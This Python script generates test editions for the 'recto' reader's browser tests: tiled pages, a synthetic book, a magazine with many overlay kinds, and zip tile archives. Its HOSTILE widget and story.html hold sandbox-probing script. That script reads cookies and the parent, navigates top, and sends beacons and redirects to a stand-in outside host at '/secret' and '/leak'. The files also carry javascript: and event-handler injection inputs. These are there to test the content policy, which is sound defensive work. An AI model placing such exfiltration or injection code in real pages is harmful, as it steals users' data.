"""Writes the editions that the browser tests read: what `recto publish` writes, made without it. Also for a look by hand:
`python make_edition.py FOLDER [RECTO]`, then `python serve.py FOLDER`."""

import json
import math
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

HERE = Path(__file__).resolve().parent
VIEWER = HERE.parent.parent / "Sources" / "Outputs" / "Viewer"
PDFS = HERE.parent.parent / "TestPDFs"

WIDGET_POLICY = (
    "default-src 'none'; script-src {here} 'unsafe-inline'; style-src {here} 'unsafe-inline'; img-src {here} data:; "
    "media-src {here}; font-src {here}; connect-src {network}; form-action 'none'; base-uri 'none'; frame-src 'none'; "
    "worker-src 'none'; object-src 'none'"
)


def write_json(path, value):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, ensure_ascii=False, separators=(",", ":"), sort_keys=True))


def place_reader(folder, edition, attributes="", noscript="", version="1"):
    """The reader's files, index.html and edition.json."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copytree(VIEWER / "reader", folder / "reader", dirs_exist_ok=True)
    page = (VIEWER / "index.html").read_text()
    for key, value in {"language": edition.get("language", "en"), "title": edition["title"],
                       "head": '<link rel="icon" href="data:,">', "frames": "", "attributes": attributes, "noscript": noscript}.items():
        page = page.replace("{{%s}}" % key, value)
    (folder / "index.html").write_text(page)
    (folder / "service-worker.js").write_text((VIEWER / "service-worker.js").read_text().replace("{{version}}", version))
    write_json(folder / "edition.json", edition)


def cut(image, folder, size=256, overlap=0, suffix="jpg"):
    """DZI levels of a picture. Lower levels are averages, as the exporter's are."""
    width, height = image.size
    top = max(0, math.ceil(math.log2(max(width, height))))
    for level in range(top, -1, -1):
        if image.size != (max(1, -(-width // 2 ** (top - level))), max(1, -(-height // 2 ** (top - level)))):
            image = image.resize((max(1, -(-width // 2 ** (top - level))), max(1, -(-height // 2 ** (top - level)))), Image.BOX)
        for y in range(-(-image.height // size)):
            for x in range(-(-image.width // size)):
                box = (max(0, x * size - overlap), max(0, y * size - overlap),
                       min(image.width, (x + 1) * size + overlap), min(image.height, (y + 1) * size + overlap))
                file = folder / str(level) / f"{x}_{y}.{suffix}"
                file.parent.mkdir(parents=True, exist_ok=True)
                image.crop(box).save(file, quality=95, subsampling=0)


# Pages whose marks are found in screenshots.

MARK_SIZE = (400, 560)
MARK_RECTS = [(188, 260, 24, 18), (150, 240, 30, 12), (230, 300, 16, 40), (196.5, 310.25, 33.5, 21.75)]
# Neighbours in a spread differ, so that each mark is found once.
MARK_COLORS = [[(255, 0, 0), (0, 150, 0), (0, 0, 255), (200, 0, 200)], [(120, 0, 0), (0, 190, 190), (0, 0, 110), (255, 140, 0)]]


def marks(root, direction="ltr", overlap=0, scale=8, name="marks"):
    """Six pages with four rectangles printed where their overlays lie; `marks-ltr`, `marks-rtl`. At a smaller scale, they are made at once."""
    folder = root / f"{name}-{direction}{'-overlap' if overlap else ''}"
    pages = 6
    width, height = MARK_SIZE
    for page in range(pages):
        image = Image.new("RGB", (width * scale, height * scale), (250, 250, 245))
        draw = ImageDraw.Draw(image)
        for rect, color in zip(MARK_RECTS, MARK_COLORS[page % 2]):
            x, y, w, h = (round(side * scale) for side in rect)
            draw.rectangle((x, y, x + w - 1, y + h - 1), fill=color)
        draw.text((20 * scale, 20 * scale), f"{page + 1}", fill=(60, 60, 60), font_size=30 * scale)
        cut(image, folder / "pages" / f"{page + 1:04}_files", 256, overlap, "png")
    overlays = {str(page): [{"kind": "link", "id": f"m{page}-{i}", "rect": list(rect), "alt": f"mark {i}",
                             "on": [{"do": "goto", "page": 0}]} for i, rect in enumerate(MARK_RECTS)] for page in range(pages)}
    pair = [[0], [1, 2], [3, 4], [5]] if direction == "ltr" else [[0], [2, 1], [4, 3], [5]]
    shifted = [[0, 1], [2, 3], [4, 5]] if direction == "ltr" else [[1, 0], [3, 2], [5, 4]]
    place_reader(folder, {
        "format": "recto/edition/1", "id": f"urn:test:{name}-{direction}{overlap}", "title": "Marks", "language": "en", "direction": direction,
        "pages": [[width, height, width * scale, height * scale, pages]], "spreads": pair, "shiftedSpreads": shifted,
        "tiles": {"address": "pages/{page}_files/{level}/{x}_{y}.png", "digits": 4, "size": 256, "overlap": overlap},
        "overlays": overlays,
    })
    return folder


def book(root, count=5000):
    """A book whose tiles are drawn by the server; text, search and outline are files."""
    folder = root / "book"
    words = "tide lantern harbour gale pilot keel chart sounding anchor heron".split()
    for chunk in range(0, count, 64):
        texts, plain = [], []
        for page in range(chunk, min(count, chunk + 64)):
            lines = [[0, 60, 80 + 20 * i, 440, 14] + [item for j in range(6) for item in
                     (words[(page * 7 + i * 3 + j) % 10] if (i, j) != (0, 0) else f"leaf{page + 1}", 70 * j, 62)] for i in range(24)]
            texts.append([[0, *lines]])
            plain.append("\n".join(" ".join(line[5::3]) for line in lines))
        write_json(folder / "text" / f"{chunk // 64}.json", texts)
        write_json(folder / "search" / f"{chunk // 64}.json", plain)
    write_json(folder / "outline.json", [{"title": f"Chapter {i // 50 + 1}", "page": i} for i in range(0, count, 50)])
    place_reader(folder, {
        "format": "recto/edition/1", "id": "urn:test:book", "title": "The Long Book", "language": "en", "direction": "ltr",
        "pages": [[595, 842, 2380, 3368, count]], "spreads": [[0], {"from": 1, "count": count // 2 - 1}, [count - 1]],
        "shiftedSpreads": [{"from": 0, "count": count // 2}],
        "tiles": {"address": "/synthetic/{page}_files/{level}/{x}_{y}.jpg", "digits": 1, "size": 256, "overlap": 0},
        "text": {"address": "text/{chunk}.json", "chunk": 64}, "search": {"address": "search/{chunk}.json", "chunk": 64},
        "outline": "outline.json",
    })
    return folder


# A magazine: real tiles, text and outline by `recto`, and an overlay of every kind.

def run(recto, *arguments):
    return subprocess.run([recto, *map(str, arguments)], check=True, capture_output=True, text=True).stdout


def text_parts(recto, pdf):
    """What text/ and search/ hold, from `recto text`."""
    layers, plain = [], []
    for page in json.loads(run(recto, "text", "--format", "json", pdf))["pages"]:
        blocks, texts = [], []
        for block in page.get("blocks", []):
            sizes = [word["size"] for line in block["lines"] for word in line["words"]]
            packed = [2 if min(sizes) >= 18 and len(block["lines"]) <= 3 else 0]
            for line in block["lines"]:
                vertical = line["direction"] == "ttb"
                turn = 4 if vertical else line["rotation"] // 90
                box = line["box"]
                axis = 1 if vertical or turn & 1 else 0
                flat = [turn + (8 if line["direction"] == "rtl" else 0), *(round(side, 1) for side in box)]
                for i, word in enumerate(line["words"]):
                    soft = "\u00ad" if line.get("hyphenated") and i == len(line["words"]) - 1 else ""
                    text = word["text"].rstrip("-\u2010") + soft if soft else word["text"]
                    flat += [text, round(word["box"][axis] - box[axis], 1), round(word["box"][2 + axis], 1)]
                packed.append(flat)
            blocks.append(packed)
            texts.append(" ".join(" ".join(line[5::3]) for line in packed[1:]))
        layers.append(blocks)
        plain.append("\n".join(texts))
    return layers, plain


def outline_of(recto, pdf):
    roots, stack = [], []
    for entry in json.loads(run(recto, "outline", "--format", "json", pdf))["entries"]:
        if entry.get("page") is None:
            continue
        node = {"title": entry["title"], "page": entry["page"]}
        while stack and stack[-1][0] >= entry["level"]:
            stack.pop()
        (stack[-1][1].setdefault("children", []) if stack else roots).append(node)
        stack.append((entry["level"], node))
    return roots


def widget(folder, name, body, network="'none'", here="'self'"):
    """Packaged HTML with the policy that publishing puts first in its head."""
    file = folder / "assets" / name / "index.html"
    file.parent.mkdir(parents=True, exist_ok=True)
    policy = WIDGET_POLICY.format(here=here, network=network)
    file.write_text(f'<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="{policy}">'
                    f'<meta charset="utf-8"><title>{name}</title></head>{body}</html>')
    return f"assets/{name}/index.html"


COUNTER = """<body style="margin:0;font:700 40px sans-serif;background:#123;color:#fff"><button id="b" style="font:inherit">0</button>
<script>let n = 0; const b = document.getElementById('b'); b.onclick = () => b.textContent = ++n;
parent.postMessage({loaded: Math.random()}, '*');</script></body>"""

HOSTILE = """<body><p>hostile</p><script>
const tries = {
  parent: () => parent.document.title, top: () => { top.location = 'about:blank#taken'; return 'navigated'; },
  cookie: () => document.cookie, storage: () => localStorage.length, session: () => sessionStorage.length,
  database: () => indexedDB.open('x') && 'opened', caches: () => caches.open('x') && 'asked', opened: () => window.open('/') && 'opened',
};
const report = {};
for (const [name, run] of Object.entries(tries)) try { report[name] = run() ?? 'null'; } catch (error) { report[name] = 'refused'; }
const outside = 'OUTSIDE';
const image = new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => resolve('refused'); i.src = outside + '/pixel.png'; });
const fetched = (address) => fetch(address, {mode: 'no-cors'}).then(() => 'loaded', () => 'refused');
(async () => {
  report.image = await image; report.fetch = await fetched(outside + '/secret'); report.own = await fetched('../../edition.json');
  report.worker = await new Promise((resolve) => { try { const w = new Worker('worker.js'); w.onerror = () => resolve('refused'); w.onmessage = () => resolve('ran'); setTimeout(() => resolve('silent'), 400); } catch (e) { resolve('refused'); } });
  report.beacon = String(navigator.sendBeacon?.(outside + '/beacon', 'x'));
  parent.postMessage({report}, '*');
  location.href = outside + '/leak?data';
})();
</script></body>"""


def picture(path, color, size=(640, 400), text=""):
    path.parent.mkdir(parents=True, exist_ok=True)
    image = Image.new("RGB", size, color)
    draw = ImageDraw.Draw(image)
    for i in range(0, size[0], 40):
        draw.line((i, 0, size[0] - i, size[1]), fill=tuple(min(255, c + 18) for c in color), width=3)
    draw.text((24, 24), text, fill=(255, 255, 255), font_size=48)
    image.save(path, quality=85)


def overlays_of_all_kinds(folder, outside="http://127.0.0.1:9"):
    """Overlays by page, with their assets, on pages of 595 x 794 points."""
    assets = folder / "assets"
    shutil.copytree(HERE / "media", assets / "media", dirs_exist_ok=True)
    (assets / "broken.mp4").write_bytes(b"\0" * 2000)
    for i, color in enumerate([(38, 70, 83), (42, 120, 110), (180, 110, 60)]):
        picture(assets / f"g{i + 1}.jpg", color, text=f"Picture {i + 1}")
    picture(assets / "poster.jpg", (60, 70, 90), (640, 360), "Leaving harbour")
    (assets / "film.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:02.000\nCasting off\n")
    (assets / "story.html").write_text(
        '<!doctype html><html lang="en"><head><title>North</title><script>window.taken = 1</script></head><body><h1>Sailing north</h1>'
        '<p onclick="window.taken=1">The <em>first</em> leg was quiet. <a href="https://example.org/route">The route</a> '
        '<a href="javascript:window.taken=1">bad</a></p><img src="g1.jpg" alt="Chart" onerror="window.taken=1">'
        '<p>' + "The wind went round in the night and we with it. " * 30 + '</p><iframe src="/"></iframe></body></html>')
    counter = widget(folder, "counter", COUNTER)
    hostile = widget(folder, "hostile", HOSTILE.replace("OUTSIDE", outside))
    film = [{"src": "assets/media/film.webm", "type": "video/webm"}, {"src": "assets/media/film.mp4", "type": "video/mp4"}]
    return {
        "0": [
            {"kind": "link", "id": "to-contents", "rect": [40, 640, 220, 48], "alt": "Go to the contents", "on": [{"do": "goto", "page": 2}]},
            {"kind": "link", "id": "outside", "rect": [320, 640, 220, 48], "title": "Our site", "on": [{"event": "tap", "do": "open", "url": "https://example.org/path?q=1"}]},
            {"kind": "link", "id": "bad", "rect": [320, 700, 100, 20], "on": [{"do": "open", "url": "javascript:window.taken=1"}]},
        ],
        "4": [
            {"kind": "region", "id": "r1", "rect": [36, 36, 523, 200], "role": "figure", "alt": "The heading of Soundings"},
            {"kind": "region", "id": "r2", "rect": [36, 240, 250, 480], "role": "text", "title": "Bell buoy"},
            {"kind": "video", "id": "v1", "rect": [300, 260, 256, 144], "title": "Leaving harbour", "alt": "Film of the crew casting off",
             "poster": "assets/poster.jpg", "sources": film, "tracks": [{"src": "assets/film.vtt", "lang": "en", "label": "English"}],
             "on": [{"event": "end", "do": "show", "target": "a1"}], "transcript": "assets/story.html"},
            {"kind": "article", "id": "a1", "rect": [300, 420, 120, 40], "alt": "Read the story as text", "hidden": True, "src": "assets/story.html"},
            {"kind": "video", "id": "v2", "rect": [300, 480, 128, 72], "title": "Muted loop", "sources": film, "start": "visible", "delay": 0.2, "loop": True, "controls": False},
            {"kind": "video", "id": "v3", "rect": [440, 480, 116, 72], "title": "Broken", "poster": "assets/poster.jpg", "sources": [{"src": "assets/broken.mp4", "type": "video/mp4"}], "start": "page"},
            {"kind": "video", "id": "v4", "rect": [300, 560, 128, 72], "title": "In a window", "poster": "assets/poster.jpg", "sources": film, "present": "popup"},
        ],
        "5": [
            {"kind": "gallery", "id": "g1", "rect": [40, 60, 320, 200], "title": "The route", "interval": 1, "items": [
                {"src": "assets/g1.jpg", "alt": "Chart of the first leg"}, {"src": "assets/g2.jpg", "alt": "Chart of the second leg", "caption": "Day 4"},
                {"src": "assets/g3.jpg", "alt": "The harbour"}]},
            {"kind": "gallery", "id": "g2", "rect": [380, 60, 160, 100], "title": "One picture", "items": [{"src": "assets/missing.jpg", "alt": "A lost picture"}]},
            {"kind": "gallery", "id": "g3", "rect": [380, 180, 160, 80], "title": "Large pictures", "present": "popup", "items": [{"src": "assets/g1.jpg", "alt": "One"}, {"src": "assets/g2.jpg", "alt": "Two"}]},
            {"kind": "widget", "id": "w1", "rect": [40, 300, 180, 90], "alt": "Counter", "src": counter, "viewport": [360, 180], "scripts": True},
            {"kind": "widget", "id": "w2", "rect": [240, 300, 120, 90], "alt": "Lost widget", "src": "assets/nowhere/index.html", "poster": "assets/g2.jpg"},
            {"kind": "audio", "id": "s1", "rect": [380, 300, 44, 44], "alt": "Play the skipper’s log", "persist": True, "transcript": "assets/story.html",
             "sources": [{"src": "assets/media/log.m4a", "type": "audio/mp4"}]},
            {"kind": "audio", "id": "s2", "rect": [440, 300, 44, 44], "alt": "Bell", "sources": [{"src": "assets/media/log.m4a", "type": "audio/mp4"}]},
            {"kind": "link", "id": "stop-all", "rect": [40, 420, 100, 24], "alt": "Hide the counter", "on": [{"do": "toggle", "target": "only-zoomed"}, {"do": "hide", "target": "w1"}]},
            {"kind": "region", "id": "only-zoomed", "rect": [40, 460, 100, 40], "role": "figure", "alt": "Detail", "minZoom": 2, "maxZoom": 3},
            {"kind": "region", "id": "portrait-only", "rect": [160, 460, 100, 40], "role": "figure", "alt": "Portrait", "orientation": "portrait"},
            {"kind": "region", "id": "outside-page", "rect": [700, 900, 100, 40], "role": "figure", "alt": "Nowhere"},
            {"kind": "link", "id": "behind", "rect": [300, 500, 120, 40], "alt": "Behind", "z": -1, "on": [{"do": "goto", "page": 0}]},
            {"kind": "link", "id": "front", "rect": [340, 510, 120, 40], "alt": "In front", "z": 5, "on": [{"do": "goto", "page": 1}]},
            {"kind": "nonsense", "id": "later", "rect": [40, 560, 100, 24]},
        ],
        "15": [{"kind": "widget", "id": "evil", "rect": [60, 60, 300, 100], "alt": "Hostile", "src": hostile, "scripts": True}],
        "7": [{"kind": "video", "id": "wide", "rect": [60, 480, 1060, 200], "title": "Across two pages", "poster": "assets/poster.jpg", "sources": film}],
    }


def pairs(pages, first):
    """Plain pairs from page `first` on; wide pages are spreads of their own, as is what is left over."""
    spreads, page = [[page] for page in range(first)], first
    while page < len(pages):
        here = [one for one in range(page, min(page + 2, len(pages))) if pages[one]["width"] < 800]
        spreads.append([page, page + 1] if here == [page, page + 1] else [page])
        page += len(spreads[-1])
    return spreads


def magazine(root, recto, pdf=PDFS / "magazine.pdf", outside="http://127.0.0.1:9"):
    folder = root / "magazine"
    folder.mkdir(parents=True, exist_ok=True)
    run(recto, "tiles", pdf, "-o", folder / "pages", "--quiet")
    report = json.loads((folder / "pages" / "pages.json").read_text())
    layers, plain = text_parts(recto, pdf)
    write_json(folder / "text" / "0.json", layers[:8])
    write_json(folder / "text" / "1.json", layers[8:])
    write_json(folder / "search.json", plain)
    pages = report["pages"]
    shutil.copy(pdf, folder / "magazine.pdf")
    edition = {
        "format": "recto/edition/1", "id": "urn:test:fathom", "fingerprint": report["document"]["digest"], "title": "Fathom, Spring", "language": "en",
        "direction": "ltr", "mode": "auto", "pages": [[page["width"], page["height"], page["pixelWidth"], page["pixelHeight"]] for page in pages],
        "labels": [[page["index"], page["label"]] for page in pages if not page["label"].isdigit()] + [[4, 12, 1]],
        "spreads": pairs(pages, 1), "shiftedSpreads": pairs(pages, 0), "joins": [7],
        "tiles": {"address": "pages/page-{page}_files/{level}/{x}_{y}.jpg", "digits": 4, "size": 256, "overlap": 0},
        "outline": outline_of(recto, pdf), "destinations": {"contents": [2], "keeper": [5, 40, 60, 300, 200]},
        "text": {"address": "text/{chunk}.json", "chunk": 8}, "search": "search.json",
        "overlays": overlays_of_all_kinds(folder, outside), "regions": True,
        "document": {"href": "magazine.pdf"},
    }
    place_reader(folder, edition, ' offline', '<h1>Fathom, Spring</h1><p>This page needs JavaScript. <a href="magazine.pdf">Read the PDF</a> instead.</p>')
    files = sorted(str(file.relative_to(folder)) for file in folder.rglob("*") if file.is_file() and file.suffix not in (".dzi",)
                   and file.name not in ("service-worker.js", "offline.json", "index.html"))
    write_json(folder / "offline.json", {"bytes": sum((folder / file).stat().st_size for file in files), "files": files})
    return folder


def archived(root, folder, name, zip64=False, sliced=False):
    """The same edition with its tiles in one stored zip."""
    target = root / name
    shutil.copytree(folder, target, ignore=shutil.ignore_patterns("pages", "offline.json"))
    edition = json.loads((target / "edition.json").read_text())
    files = sorted((file for file in (folder / "pages").rglob("*.*") if file.suffix in (".jpg", ".png")),
                   key=lambda file: str(file.relative_to(folder)).encode())
    entries, offset = [], 0
    with open(target / "pages.zip", "wb") as out:
        for file in files:
            path, data = str(file.relative_to(folder)).encode(), file.read_bytes()
            crc = zipfile.crc32(data)
            extra = b"" if not zip64 else struct.pack("<HHQQ", 1, 16, len(data), len(data))
            sizes = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (len(data), len(data))
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0x800, 0, 0, 0x21, crc, *sizes, len(path), len(extra)) + path + extra + data)
            extra = b"" if not zip64 else struct.pack("<HHQQQ", 1, 24, len(data), len(data), offset)
            sizes = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (len(data), len(data))
            entries.append((path, struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0x800, 0, 0, 0x21, crc, *sizes, len(path), len(extra), 0, 0, 0, 0,
                                              0xFFFFFFFF if zip64 else offset) + path + extra))
            offset = out.tell()
        start, bounds, chunk = offset, [], 4
        for path, record in entries:
            page = int(re.search(rb"(\d+)_files", path)[1]) - 1
            while len(bounds) <= page // chunk:
                bounds.append(out.tell())
            out.write(record)
        end = out.tell()
        bounds.append(end)
        if zip64:
            out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(entries), len(entries), end - start, start))
            out.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
            out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
        else:
            out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(len(entries), 0xFFFF), min(len(entries), 0xFFFF), end - start, start, 0))
    edition["tiles"]["archive"] = "pages.zip"
    edition["tiles"] |= {"directory": bounds, "chunk": chunk} if sliced else {"directory": [start, end], "chunk": 1000000}
    write_json(target / "edition.json", edition)
    return target


if __name__ == "__main__":
    root = Path(sys.argv[1])
    marks(root)
    marks(root, "rtl")
    book(root)
    if len(sys.argv) > 2:
        magazine(root, sys.argv[2])
